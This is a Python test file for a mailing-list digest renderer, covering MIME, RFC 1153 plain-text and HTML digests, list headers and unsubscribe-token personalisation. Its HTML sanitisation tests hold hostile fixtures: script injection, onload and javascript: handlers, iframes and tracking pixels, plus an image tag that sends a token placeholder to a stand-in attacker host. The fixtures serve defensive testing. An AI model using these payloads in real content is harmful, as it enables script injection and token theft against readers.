"""Digest rendering: MIME (RFC 2046), plain (RFC 1153) and HTML issues from real posts."""

from __future__ import annotations

import email
import email.message
import email.policy
import re
import secrets
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import jinja2
import mailparser
import pytest

from gateway.digestformats import (
    FORMATS,
    DigestIssue,
    DigestPost,
    html_to_text,
    render,
)
from gateway.errors import ConfigError
from gateway.identity import ListIdentity
from gateway.message import decode_header
from gateway.signing import PLACEHOLDER, personalise
from gateway.templates import Templates
from tests.support import REPO, post

LIST = ListIdentity(name="discuss", domain="example.org", display_name="Discuss",
                    subject_prefix="[discuss]",
                    archive_url="https://lists.example.org/archive/discuss")
LINK_BASE = "https://lists.example.org"
UNSUBSCRIBE = f"{LINK_BASE}/u/{PLACEHOLDER}"
REGULAR = f"{LINK_BASE}/r/{PLACEHOLDER}"
SUBJECT = "Discuss Digest, Vol 3, Issue 7"

# Real discussion: a three-post thread (01264 <- 01265 <- 01266) and unrelated posts.
THREAD = ["sa__easy-ham-1__01264.eml", "sa__easy-ham-1__01265.eml",
          "sa__easy-ham-1__01266.eml"]
HAM = ["sa__easy-ham-1__00001.eml", "sa__easy-ham-1__00002.eml", "sa__easy-ham-1__00003.eml",
       "sa__easy-ham-1__00578.eml", *THREAD, "sa__easy-ham-1__01034.eml",
       "sa__easy-ham-1__01035.eml", "sa__easy-ham-1__00670.eml"]


# -- helpers ------------------------------------------------------------------------


def as_received(data: bytes) -> bytes:
    """A corpus file as intake stores it: no mbox "From " line, CRLF line ends."""
    if data.startswith(b"From ") and b"\n" in data:
        data = data.split(b"\n", 1)[1]
    return re.sub(rb"\r\n|\r|\n", b"\r\n", data)


def ham(corpus: Path, *names: str) -> list[bytes]:
    return [as_received((corpus / "labeled" / "ham" / n).read_bytes()) for n in names]


def issue_of(raws: list[bytes], *, volume: int = 3, number: int = 7,
             lst: ListIdentity = LIST) -> DigestIssue:
    posts = tuple(DigestPost(raw, 1_000_000.0 + i * 60) for i, raw in enumerate(raws))
    return DigestIssue(mailing_list=lst, volume=volume, number=number, posts=posts,
                       date=1_700_000_000.0)


def parse(data: bytes) -> email.message.EmailMessage:
    msg = email.message_from_bytes(data, policy=email.policy.default)
    assert isinstance(msg, email.message.EmailMessage)
    return msg


def text_of(part: email.message.Message) -> str:
    payload = part.get_payload(decode=True)
    assert isinstance(payload, bytes)
    return payload.decode(part.get_content_charset() or "utf-8").replace("\r\n", "\n")


def subject_of(raw: bytes) -> str:
    msg = email.message_from_bytes(raw, policy=email.policy.compat32)
    return " ".join(decode_header(msg.get("Subject")).split())


def digest_part_bytes(data: bytes) -> list[bytes]:
    """The bytes of each message/rfc822 part, cut out of the digest by its boundary."""
    boundary = re.search(rb'multipart/digest; boundary="([^"]+)"', data)
    assert boundary is not None
    delimiter = b"\r\n--" + boundary.group(1)
    pieces = data.split(delimiter)
    parts = pieces[1:-1]  # before the first: the digest's own header; after the last: "--"
    assert pieces[-1].startswith(b"--")
    bodies = []
    for piece in parts:
        assert piece.startswith(b"\r\n")
        head, sep, body = piece[2:].partition(b"\r\n\r\n")
        assert sep and b"Content-Type: message/rfc822" in head
        bodies.append(body)
    return bodies


@pytest.fixture(scope="module")
def templates() -> Templates:
    return Templates(REPO / "templates")


@pytest.fixture(scope="module")
def odd_files(corpus: Path) -> list[Path]:
    """The malformed ones: every odd/ file with parser defects or line ends other than LF."""
    rows = (corpus / "odd" / "MANIFEST.tsv").read_text(encoding="utf-8").splitlines()
    columns = rows[0].split("\t")
    chosen = []
    for row in rows[1:]:
        cell = dict(zip(columns, row.split("\t"), strict=False))
        if cell.get("defects") or cell.get("eol") != "LF":
            chosen.append(corpus / "odd" / cell["file"])
    assert len(chosen) > 30
    return chosen


class Page(HTMLParser):
    """What a rendered HTML page is made of, for checking it."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.sections: dict[str, list[str]] = {}
        self.links_in_posts: list[dict[str, str | None]] = []
        self.unfolded_text: list[str] = []  # post text outside <details>
        self.folded_text: list[str] = []
        self._section: str | None = None
        self._details = 0
        self._pre = 0
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.tags.append((tag, a))
        if tag == "section":
            self._section = a.get("id") or ""
            self.sections[self._section] = []
        elif tag == "article" and self._section is not None:
            self.sections[self._section].append(a.get("id") or "")
        elif tag == "details":
            self._details += 1
        elif tag == "pre":
            self._pre += 1
        elif tag == "a" and self._pre:
            self.links_in_posts.append(a)

    def handle_endtag(self, tag: str) -> None:
        if tag == "details":
            self._details -= 1
        elif tag == "pre":
            self._pre -= 1
        elif tag == "section":
            self._section = None

    def handle_data(self, data: str) -> None:
        if self._pre:
            (self.folded_text if self._details else self.unfolded_text).append(data)


def html_page(data: bytes) -> str:
    msg = parse(data)
    assert msg.get_content_type() == "multipart/alternative"
    types = [p.get_content_type() for p in msg.iter_parts()]
    assert types == ["text/plain", "text/html"]
    html_part = msg.get_body(("html",))
    assert html_part is not None
    return text_of(html_part)


# -- MIME ---------------------------------------------------------------------------


def test_render_mime_is_mixed_toc_digest_footer(corpus: Path, templates: Templates) -> None:
    raws = ham(corpus, *HAM)
    data = render(issue_of(raws), "mime", templates, link_base=LINK_BASE)

    msg = parse(data)
    assert msg.get_content_type() == "multipart/mixed"
    toc, digest, footer = msg.iter_parts()
    assert toc.get_content_type() == "text/plain"
    assert toc["Content-Description"] == f"Today's Topics ({len(raws)} messages)"
    assert digest.get_content_type() == "multipart/digest"
    assert footer.get_content_type() == "text/plain"
    enclosed = list(digest.iter_parts())
    assert len(enclosed) == len(raws)
    assert all(p.get_content_type() == "message/rfc822" for p in enclosed)
    for part, raw in zip(enclosed, raws, strict=True):
        inner = part.get_payload()
        assert isinstance(inner, list) and isinstance(inner[0], email.message.Message)
        assert " ".join(str(inner[0]["Subject"]).split()) == subject_of(raw)
    # The enclosed posts are the stored bytes, not a re-serialisation.
    assert digest_part_bytes(data) == raws

    contents = text_of(toc)
    topics = re.findall(r"(?m)^ *(\d+)\. (.+)$", contents)
    assert [int(n) for n, _ in topics] == list(range(1, len(raws) + 1))
    for (_, line), raw in zip(topics, raws, strict=True):
        assert line.startswith(subject_of(raw)[:40])
    assert UNSUBSCRIBE in text_of(footer) and REGULAR in text_of(footer)

    parsed = mailparser.parse_from_bytes(data)
    assert parsed.subject == SUBJECT
    assert not parsed.defects
    # Table of contents, one text per enclosed post, footer.
    assert len(parsed.text_plain) == len(raws) + 2
    kinds = [p.get_content_type() for p in parsed.message.walk()]
    assert kinds[:3] == ["multipart/mixed", "text/plain", "multipart/digest"]
    assert kinds.count("message/rfc822") == len(raws)


def test_render_mime_keeps_malformed_posts_byte_exact(odd_files: list[Path],
                                                      templates: Templates) -> None:
    raws = [f.read_bytes() for f in odd_files]
    data = render(issue_of(raws), "mime", templates, link_base=LINK_BASE)
    enclosed = digest_part_bytes(data)
    assert len(enclosed) == len(raws)
    for raw, got in zip(raws, enclosed, strict=True):
        expected = re.sub(rb"\r\n|\r|\n", b"\r\n", raw)
        if expected and not expected.endswith(b"\r\n"):
            expected += b"\r\n"
        assert got == expected
    crlf_already = [r for r in raws if r.endswith(b"\r\n") and not re.search(rb"(?<!\r)\n", r)]
    assert crlf_already, "the selection should hold CRLF originals"
    for raw in crlf_already:
        assert raw in enclosed  # untouched, byte for byte


def test_render_mime_labels_long_lines_binary(corpus: Path, templates: Templates) -> None:
    raw = (corpus / "odd" / "mime4j__testmsgs__basic-plain-very-long-lines.msg.eml").read_bytes()
    assert max(len(line) for line in raw.splitlines()) > 998
    data = render(issue_of([raw]), "mime", templates, link_base=LINK_BASE)
    assert b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: binary\r\n" in data


# -- plain (RFC 1153) -------------------------------------------------------------


def test_render_plain_follows_rfc1153(corpus: Path, templates: Templates) -> None:
    raws = ham(corpus, *HAM)
    data = render(issue_of(raws), "plain", templates, link_base=LINK_BASE)
    msg = parse(data)
    assert msg.get_content_type() == "text/plain"
    assert not msg.is_multipart()
    lines = text_of(msg).split("\n")

    start = lines.index("Today's Topics:")
    end = lines.index("-" * 70)
    assert lines.count("-" * 70) == 1
    assert lines[end + 1] == ""
    topics = [m for m in (re.match(r" *(\d+)\. ", x) for x in lines[start:end]) if m]
    assert [int(m.group(1)) for m in topics] == list(range(1, len(raws) + 1))

    separators = [i for i, x in enumerate(lines) if x == "-" * 30]
    # One after each message, one after the footer pseudo-message.
    assert len(separators) == len(raws) + 1
    for i in separators:
        assert lines[i - 1] == "" and lines[i + 1] == ""
    numbers = [int(x.split()[1]) for x in lines if re.fullmatch(r"Message: \d+", x)]
    assert numbers == list(range(1, len(raws) + 1))
    sections = [lines[a + 1:b] for a, b in zip([end, *separators], separators, strict=False)]
    for section, raw in zip(sections, raws, strict=False):
        head = section[1:section.index("", 1)]
        names = [x.split(":", 1)[0] for x in head if not x.startswith("\t")]
        order = ["Message", "Date", "From", "To", "Cc", "Subject", "Message-ID", "Keywords"]
        assert names == sorted(names, key=order.index)  # RFC 1153's order
        subject = next(x for x in head if x.startswith("Subject: "))
        assert subject_of(raw).startswith(subject.removeprefix("Subject: "))
        assert "Received" not in names

    trailer = [x for x in lines if x][-2:]
    assert trailer[0] == f"End of {SUBJECT}"
    assert trailer[1] == "*" * len(trailer[0])
    assert lines[separators[-1] + 2] == trailer[0]

    parsed = mailparser.parse_from_bytes(data)
    assert parsed.subject == SUBJECT
    assert not parsed.defects
    assert "Today's Topics:" in parsed.text_plain[0]


def test_render_plain_converts_html_posts_and_names_attachments(
        corpus: Path, templates: Templates) -> None:
    html_only = ham(corpus, "sa__easy-ham-1__00578.eml")[0]
    assert b"text/html" in html_only
    pdf = (corpus / "odd" / "flanker__attached-pdf.eml.eml").read_bytes()
    data = render(issue_of([html_only, pdf]), "plain", templates, link_base=LINK_BASE)
    body = text_of(parse(data))
    first = body.split("Message: 1", 1)[1].split("-" * 30, 1)[0]
    assert not re.search(r"<(html|body|p|div|font|a|br|table)\b", first, re.IGNORECASE)
    assert re.search(r"\[Attachment not included: [^\]]*\.pdf \(application/pdf, [\d.]+ KB\)\]",
                     body)


def test_render_plain_escapes_separator_lines_in_posts(templates: Templates) -> None:
    raw = post("alice@example.net", LIST.post_address, "Separators",
               "Above\r\n" + "-" * 30 + "\r\nBelow\r\n")
    body = text_of(parse(render(issue_of([raw]), "plain", templates, link_base=LINK_BASE)))
    assert "Above\n " + "-" * 29 + "\nBelow" in body
    assert body.count("\n" + "-" * 30 + "\n") == 2  # after the post, after the footer


# -- HTML ---------------------------------------------------------------------------


def thread_posts(corpus: Path) -> list[bytes]:
    root, reply, reply2 = ham(corpus, *THREAD)
    moscow, sequences = ham(corpus, "sa__easy-ham-1__00003.eml", "sa__easy-ham-1__00001.eml")
    # A reply without threading fields: joins by subject. A reply with In-Reply-To only.
    by_subject = post("bob@example.net", LIST.post_address, "Re: [zzzzteana] Moscow bomber",
                      "Seen it.\r\n")
    by_id = post("carol@example.net", LIST.post_address, "Re: New Sequences Window",
                 "> quoted line\r\n\r\nMy answer.\r\n",
                 extra_headers="In-Reply-To: <13258.1030015585@munnari.OZ.AU>\r\n")
    return [root, moscow, reply, sequences, reply2, by_subject, by_id]


def test_render_html_groups_threads(corpus: Path, templates: Templates) -> None:
    data = render(issue_of(thread_posts(corpus)), "html", templates, link_base=LINK_BASE)
    markup = html_page(data)
    page = Page(markup)
    assert page.sections == {"t1": ["m1", "m3", "m5"], "t2": ["m2", "m6"], "t3": ["m4", "m7"]}
    toc = re.findall(r'<a href="#(t\d+)">([^<]*)</a>\n\((\d+) messages?\)', markup)
    assert toc == [("t1", "RH 8 no DMA for DVD drive", "3"),
                   ("t2", "[zzzzteana] Moscow bomber", "2"),
                   ("t3", "New Sequences Window", "2")]
    # Replies are indented by their depth in the thread.
    articles = {a.get("id"): a.get("style") for t, a in page.tags if t == "article"}
    assert articles["m1"] is None
    assert articles["m3"] == "margin-left: 1.5em" and articles["m5"] == "margin-left: 3.0em"

    # Reply links thread under the post: to the list, and privately to its author.
    reply = 'href="mailto:discuss@example.org?subject=Re%3A%20RH%208%20no%20DMA%20for%20DVD%20drive'
    assert reply + "&amp;In-Reply-To=%3C1033953429.13890.4.camel%40AMD1800%3E" in markup
    assert 'href="mailto:carol@example.net?subject=Re%3A%20New%20Sequences%20Window' in markup

    alternative = text_of(parse(data).get_body(("plain",)))  # type: ignore[arg-type]
    assert "Thread 1: RH 8 no DMA for DVD drive" in alternative
    assert "(3 messages)" in alternative and UNSUBSCRIBE in alternative

    parsed = mailparser.parse_from_bytes(data)
    assert parsed.subject == SUBJECT
    assert parsed.text_html and parsed.text_plain
    assert not parsed.defects


def test_render_html_folds_quoted_lines(corpus: Path, templates: Templates) -> None:
    raws = thread_posts(corpus)
    page = Page(html_page(render(issue_of(raws), "html", templates, link_base=LINK_BASE)))
    folded = "".join(page.folded_text)
    unfolded = "".join(page.unfolded_text)
    assert "> quoted line" in folded
    assert "My answer." in unfolded
    assert "> > DVD playback is very jumpy." in folded  # from 01266, quoting 01265
    assert not [x for x in unfolded.split("\n") if x.lstrip().startswith(">")]
    summaries = [t for t, _ in page.tags if t == "summary"]
    assert len(summaries) == sum(1 for t, _ in page.tags if t == "details") > 2


HOSTILE_HTML = """\
<html><head><style>body { background: url(https://tracker.example/bg.png) }</style>
<script>document.location = "https://evil.example/"</script></head>
<body onload="steal()"><p>Hello <b>members</b> &amp; friends.</p>
<img src="https://tracker.example/pixel.gif?u=1" width=1 height=1 alt="">
<p><a href="javascript:alert(1)">click me</a> or
<a href="https://example.com/offer?a=1&amp;b=2" onclick="x()">the offer</a></p>
<iframe src="https://evil.example/frame">frame text</iframe>
<svg onload="alert(2)"><text>svg text</text></svg>
<blockquote>Earlier words</blockquote></body></html>
"""
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3",
                "p", "nav", "ol", "ul", "li", "a", "main", "section", "article", "pre",
                "details", "summary", "wbr", "footer"}


def test_render_html_never_passes_post_markup(corpus: Path, templates: Templates) -> None:
    promo = sorted((corpus / "labeled" / "promo").glob("*.eml"))
    html_promo = [p for p in promo if b"text/html" in p.read_bytes().lower()][:25]
    hostile = post("mallory@example.net", LIST.post_address, "<script>alert(1)</script>",
                   HOSTILE_HTML, extra_headers="MIME-Version: 1.0\r\n"
                   "Content-Type: text/html; charset=utf-8\r\n")
    raws = [hostile, *(p.read_bytes() for p in html_promo)]
    markup = html_page(render(issue_of(raws), "html", templates, link_base=LINK_BASE))
    page = Page(markup)

    assert {t for t, _ in page.tags} <= ALLOWED_TAGS
    assert not re.search(r"<\s*(script|img|iframe|svg|object|embed|form)", markup, re.I)
    assert sum(1 for t, _ in page.tags if t == "style") == 1  # ours, in the head
    for tag, attrs in page.tags:
        assert not [a for a in attrs if a.lower().startswith("on")], (tag, attrs)
        if "style" in attrs:
            assert tag == "article" and re.fullmatch(r"margin-left: [\d.]+em",
                                                     attrs["style"] or "")
        if tag == "a":
            assert re.match(r"(#|https?://|mailto:)", attrs.get("href") or ""), attrs
    assert page.links_in_posts
    for attrs in page.links_in_posts:
        assert attrs.get("rel") == "nofollow noopener"
        assert re.match(r"(https?://|mailto:)", attrs.get("href") or "")

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markup
    text = "".join(page.unfolded_text) + "".join(page.folded_text)
    assert "Hello members & friends." in text
    assert "the offer <https://example.com/offer?a=1&b=2>" in text
    assert "click me" in text and "javascript" not in text
    assert "steal" not in markup and "document.location" not in markup
    assert "tracker.example" not in markup and "svg text" not in markup
    assert "> Earlier words" in "".join(page.folded_text)


# -- headers and links --------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_render_sets_list_headers(fmt: str, corpus: Path, templates: Templates) -> None:
    issue = issue_of(ham(corpus, *HAM[:3]))
    data = render(issue, fmt, templates, link_base=LINK_BASE + "/")
    assert data == render(issue, fmt, templates, link_base=LINK_BASE)  # deterministic
    msg = parse(data)
    assert msg["Subject"] == SUBJECT
    assert msg["From"].addresses[0].addr_spec == "discuss-request@example.org"
    assert msg["From"].addresses[0].display_name == "Discuss"
    assert msg["To"] == "discuss@example.org"
    assert msg["MIME-Version"] == "1.0"
    assert msg["Date"].datetime.timestamp() == issue.date
    assert msg["List-Id"] == '"Discuss" <discuss.example.org>'
    assert msg["List-Post"] == "<mailto:discuss@example.org>"
    assert msg["List-Archive"] == "<https://lists.example.org/archive/discuss>"
    assert " ".join(msg["List-Unsubscribe"].split()) == (
        f"<{UNSUBSCRIBE}>, <mailto:discuss-leave@example.org>")
    assert msg["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert msg["Precedence"] == "list"
    ids = {render(issue, f, templates, link_base=LINK_BASE).split(b"Message-ID: ")[1]
           .split(b"\r\n")[0] for f in FORMATS}
    assert len(ids) == 3 and all(i.endswith(b"@example.org>") for i in ids)
    assert b"\r\n" in data and not re.search(rb"(?<!\r)\n|\r(?!\n)", data)

    parsed = mailparser.parse_from_bytes(data)
    assert parsed.headers["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert UNSUBSCRIBE in parsed.headers["List-Unsubscribe"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_render_without_personal_links_points_to_the_lists_addresses(
        fmt: str, corpus: Path, templates: Templates) -> None:
    data = render(issue_of(ham(corpus, *HAM[:3])), fmt, templates, link_base=None)
    assert PLACEHOLDER.encode() not in data and b"/u/" not in data
    msg = parse(data)
    assert msg["List-Unsubscribe"] == "<mailto:discuss-leave@example.org>"
    assert msg["List-Unsubscribe-Post"] is None  # RFC 8058: only with an HTTPS URI
    assert msg["Precedence"] == "list" and msg["X-Loop"] == "discuss@example.org"
    shown = "".join(text_of(p) for p in msg.walk()
                    if p.get_content_maintype() == "text" and not p.is_multipart())
    if fmt == "html":
        assert 'href="mailto:discuss-request@example.org?subject=set%20regular"' in shown
        assert 'href="mailto:discuss-leave@example.org"' in shown
    assert "discuss-leave@example.org" in shown and "one click" not in shown.lower()


@pytest.mark.parametrize("fmt", FORMATS)
def test_render_encodes_a_non_ascii_list_name(fmt: str, templates: Templates) -> None:
    lst = ListIdentity(name="cafe", domain="example.org", display_name="Café Crème",
                       subject_prefix="[café]", archive_url=None)
    raw = post("zoë@example.net", lst.post_address, "[café] Grüße", "Ça va?\r\n")
    data = render(issue_of([raw], lst=lst, volume=1, number=2), fmt, templates,
                  link_base=LINK_BASE)
    head = data.split(b"\r\n\r\n", 1)[0]
    assert head.isascii()  # RFC 2047 encoded words, no raw UTF-8 in the header
    msg = parse(data)
    assert msg["Subject"] == "Café Crème Digest, Vol 1, Issue 2"
    assert msg["From"].addresses[0].display_name == "Café Crème"
    parsed = mailparser.parse_from_bytes(data)
    assert parsed.subject == "Café Crème Digest, Vol 1, Issue 2"
    shown = "".join(text_of(p) for p in msg.walk()
                    if p.get_content_maintype() == "text" and not p.is_multipart())
    assert "Grüße" in shown


@pytest.mark.parametrize("fmt", FORMATS)
def test_personalise_keeps_message_parseable(fmt: str, corpus: Path,
                                             templates: Templates) -> None:
    data = render(issue_of(ham(corpus, *HAM)), fmt, templates, link_base=LINK_BASE)
    assert data.count(PLACEHOLDER.encode()) >= 3  # header, unsubscribe, switch to regular
    token = secrets.token_urlsafe(30)
    assert len(token) == 40
    mine = personalise(data, token)
    assert mine == data.replace(PLACEHOLDER.encode(), token.encode())
    assert PLACEHOLDER.encode() not in mine
    msg = parse(mine)
    assert f"{LINK_BASE}/u/{token}" in msg["List-Unsubscribe"]
    texts = [text_of(p) for p in msg.walk() if p.get_content_maintype() == "text"
             and not isinstance(p.get_payload(), list)]
    assert any(f"{LINK_BASE}/u/{token}" in t and f"{LINK_BASE}/r/{token}" in t for t in texts)
    parsed = mailparser.parse_from_bytes(mine)
    assert parsed.subject == SUBJECT and not parsed.defects
    with pytest.raises(ValueError):
        personalise(data, "not a token!")


@pytest.mark.parametrize("fmt", FORMATS)
def test_render_defangs_placeholder_inside_posts(fmt: str, templates: Templates) -> None:
    bait = post("mallory@example.net", LIST.post_address, f"Token {PLACEHOLDER}",
                f'<img src="https://evil.example/?t={PLACEHOLDER}"> {PLACEHOLDER}\r\n',
                extra_headers="MIME-Version: 1.0\r\nContent-Type: text/html\r\n")
    clean = render(issue_of([post("a@example.net", LIST.post_address, "x")]), fmt, templates,
                   link_base=LINK_BASE)
    data = render(issue_of([bait]), fmt, templates, link_base=LINK_BASE)
    # Only our own links carry it: as many as in a digest without the bait.
    assert data.count(PLACEHOLDER.encode()) == clean.count(PLACEHOLDER.encode())


# -- malformed input, limits, errors ------------------------------------------------


def test_render_survives_malformed_posts(odd_files: list[Path], templates: Templates) -> None:
    raws = [f.read_bytes() for f in odd_files]
    issue = issue_of(raws)
    for fmt in FORMATS:
        data = render(issue, fmt, templates, link_base=LINK_BASE)
        msg = parse(data)
        assert msg["Subject"] == SUBJECT
        assert not re.search(rb"(?<!\r)\n|\r(?!\n)", data)
        parsed = mailparser.parse_from_bytes(data)
        assert parsed.subject == SUBJECT
        if fmt == "plain":
            assert len(re.findall(r"(?m)^Message: \d+$", text_of(msg))) == len(raws)
        elif fmt == "html":
            assert len(re.findall(r'<article id="m\d+"', html_page(data))) == len(raws)
        else:
            assert len(digest_part_bytes(data)) == len(raws)
        # Our own parts keep to SMTP's line limit; only enclosed posts may not.
        own = data if fmt != "mime" else re.sub(
            rb"Content-Type: message/rfc822\r\n.*?(?=\r\n--=_lg_digest_)", b"", data,
            flags=re.DOTALL)
        assert max(len(x) for x in own.split(b"\r\n")) <= 998


@pytest.mark.parametrize("name", ["mime4j__testmsgs__basic-plain-very-long-lines.msg.eml",
                                  "flanker__long-links.eml.eml",
                                  "flanker__long-header.eml.eml"])
@pytest.mark.parametrize("fmt", ["plain", "html"])
def test_render_keeps_lines_within_smtp_limit(name: str, fmt: str, corpus: Path,
                                              templates: Templates) -> None:
    raw = (corpus / "odd" / name).read_bytes()
    data = render(issue_of([raw]), fmt, templates, link_base=LINK_BASE)
    assert max(len(x) for x in data.split(b"\r\n")) <= 998


def test_render_rejects_what_it_cannot_render(templates: Templates) -> None:
    issue = issue_of([post("a@example.net", LIST.post_address, "x")])
    with pytest.raises(ValueError, match="format"):
        render(issue, "pdf", templates, link_base=LINK_BASE)
    with pytest.raises(ValueError, match="at least one post"):
        render(issue_of([]), "mime", templates, link_base=LINK_BASE)
    for base in ("ftp://lists.example.org", "lists.example.org", "https://x.org/a b",
                 "https://x.org/>", "https://x.org/é"):
        with pytest.raises(ConfigError):
            render(issue, "plain", templates, link_base=base)


@pytest.fixture
def override_root(tmp_path: Path) -> Iterator[Path]:
    root = tmp_path / "templates"
    shutil.copytree(REPO / "templates" / "digest", root / "digest")
    own = root / "lists" / LIST.post_address / "digest"
    own.mkdir(parents=True)
    (own / "footer.txt.j2").write_text("Bye from {{ mailing_list.display_name }}: "
                                       "{{ links.unsubscribe_url }}\n", encoding="utf-8")
    yield root


@pytest.mark.parametrize("fmt", FORMATS)
def test_render_uses_the_lists_own_templates(fmt: str, override_root: Path) -> None:
    data = render(issue_of([post("a@example.net", LIST.post_address, "x")]), fmt,
                  Templates(override_root), link_base=LINK_BASE)
    assert f"Bye from Discuss: {UNSUBSCRIBE}".encode() in data


def test_render_undefined_template_variable_is_an_error(override_root: Path) -> None:
    (override_root / "digest" / "masthead.txt.j2").write_text("{{ no_such_thing }}\n",
                                                              encoding="utf-8")
    with pytest.raises(jinja2.UndefinedError):
        render(issue_of([post("a@example.net", LIST.post_address, "x")]), "plain",
               Templates(override_root), link_base=LINK_BASE)


def test_render_200_posts_in_every_format(corpus: Path, templates: Templates) -> None:
    names = sorted(p.name for p in (corpus / "labeled" / "ham").glob("*.eml"))[:200]
    raws = ham(corpus, *names)
    issue = issue_of(raws)
    mime = render(issue, "mime", templates, link_base=LINK_BASE)
    assert digest_part_bytes(mime) == raws
    plain = text_of(parse(render(issue, "plain", templates, link_base=LINK_BASE)))
    assert plain.count("\n" + "-" * 30 + "\n") == 201
    page = Page(html_page(render(issue, "html", templates, link_base=LINK_BASE)))
    assert sum(len(v) for v in page.sections.values()) == 200


# -- HTML to text -------------------------------------------------------------------


@pytest.mark.parametrize(("markup", "expected"), [
    ("<p>One</p><p>Two<br>Three</p>", "One\n\nTwo\nThree"),
    ("<div>a &amp; b &lt;c&gt;</div>", "a & b <c>"),
    ('<a href="https://x.org/p">site</a>', "site <https://x.org/p>"),
    ('<a href="https://x.org/">https://x.org/</a>', "https://x.org/"),
    ('<a href="mailto:a@x.org">a@x.org</a>', "a@x.org"),
    ('<a href="javascript:go()">go</a>', "go"),
    ('<a href="data:text/html,hi">hi</a>', "hi"),
    ("<style>p{color:red}</style><script>x()</script><p>seen</p>", "seen"),
    ('<img src="https://t.example/p.gif" alt="Logo">', "[image: Logo]"),
    ('<p>a <img src="https://t.example/p.gif">b<img src="https://t.example/1.gif" alt=""></p>',
     "a [image]b"),
    ("<blockquote><p>said</p><blockquote>before</blockquote></blockquote><p>reply</p>",
     "> said\n>\n> > before\n\nreply"),
    ("<ul><li>a</li><li>b</li></ul><ol><li>c</li><li>d</li></ol>", "* a\n* b\n\n1. c\n2. d"),
    ("<pre>  keep\n    this</pre>", "  keep\n    this"),
    ("<head><title>T</title><body><p>no closing head", "no closing head"),
])
def test_html_to_text_keeps_words_drops_markup(markup: str, expected: str) -> None:
    assert html_to_text(markup) == expected
